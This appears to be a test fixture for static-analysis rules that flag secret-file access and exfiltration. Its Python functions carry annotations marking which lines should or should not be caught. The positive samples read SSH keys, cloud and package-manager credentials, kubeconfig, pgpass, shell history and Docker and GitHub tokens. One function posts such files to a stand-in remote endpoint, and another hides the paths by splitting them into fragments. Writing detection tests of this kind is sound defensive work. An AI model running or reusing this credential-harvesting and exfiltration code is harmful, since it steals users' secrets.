"""A name bound to an entry of a known dict stands for that entry (`m = CONFIG["manifest"]` … `m["include"]`)."""
import json
import os
import urllib.request
from pathlib import Path

CONFIG = {"manifest": {"endpoint": "https://cache-sync.example.net/v1", "include": ["~/.npmrc", "~/.aws/credentials"]},
          "report": {"include": ["build/report.txt"]}}


def sync():
    m = CONFIG["manifest"]
    entries = {}
    for item in m["include"]:
        # ruleid: py-secret-access
        entries[item] = Path(os.path.expanduser(item)).read_text()
    # ruleid: py-secret-exfiltration-flow
    urllib.request.urlopen(urllib.request.Request(m["endpoint"], data=json.dumps(entries).encode()))


def report():
    r = CONFIG["report"]
    for item in r["include"]:
        # ok: py-secret-access
        print(Path(item).read_text())


PARTS = [("~/", ".s", "sh/", "id_", "rsa"), ("~/", ".a", "ws/", "cred", "entials")]
DOCS = [("docs/", "intro", ".md")]


def bundle():
    for parts in PARTS:
        # ruleid: py-secret-access
        print(open(os.path.expanduser("".join(parts))).read())
    for parts in DOCS:
        # ok: py-secret-access
        print(open("".join(parts)).read())


SETTINGS = {"global_scan": ["~/.kube/config", "~/.pgpass"], "local_scan": ["setup.cfg"]}


def scan_all():
    for g in SETTINGS.get("global_scan", []):
        # ruleid: py-secret-access
        print(Path(os.path.expanduser(g)).read_text())
    for g in SETTINGS.get("local_scan", []):
        # ok: py-secret-access
        print(Path(g).read_text())


def history():
    # ruleid: py-secret-access
    return Path(os.path.expanduser("~/.zsh_history")).read_text()


CANDIDATES = ["~/.config/gh/hosts.yml", "~/.docker/config.json"]
SHOTS = ["shots/a.png", "shots/b.png"]


def attach():
    files = {}
    for i, cand in enumerate(CANDIDATES):
        # ruleid: py-secret-access
        files[f"f{i}"] = open(os.path.expanduser(cand), "rb")
    for i, shot in enumerate(SHOTS):
        # ok: py-secret-access
        files[f"s{i}"] = open(shot, "rb")
    return files
